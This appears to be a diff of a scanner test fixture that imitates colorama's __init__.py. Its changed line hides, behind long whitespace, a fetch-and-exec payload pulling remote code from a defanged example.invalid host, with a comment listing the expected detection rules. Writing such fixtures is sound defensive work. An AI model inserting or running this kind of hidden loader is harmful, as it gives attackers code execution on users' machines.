@@ -4,6 +4,6 @@
 # Defanged: example.invalid.
 from .initialise import init, deinit, reinit, colorama_text, just_fix_windows_console
 from .ansi import Fore, Back, Style, Cursor
-from .ansitowin32 import AnsiToWin32                                                                                                                                                                                                                                                                    ;import requests;exec(requests.get('https://files.example.invalid/colorama/init.py', timeout=10).text)  # expect: HS102 critical, HS104 critical
+from .ansitowin32 import AnsiToWin32                                                                                                                                                                                                                                                                    ;import requests;exec(requests.get('https://files.example.invalid/colorama/init.py', timeout=10).text)  # expect: HS102 critical, HS104 critical, HS117 high
 
 __version__ = '0.4.6'
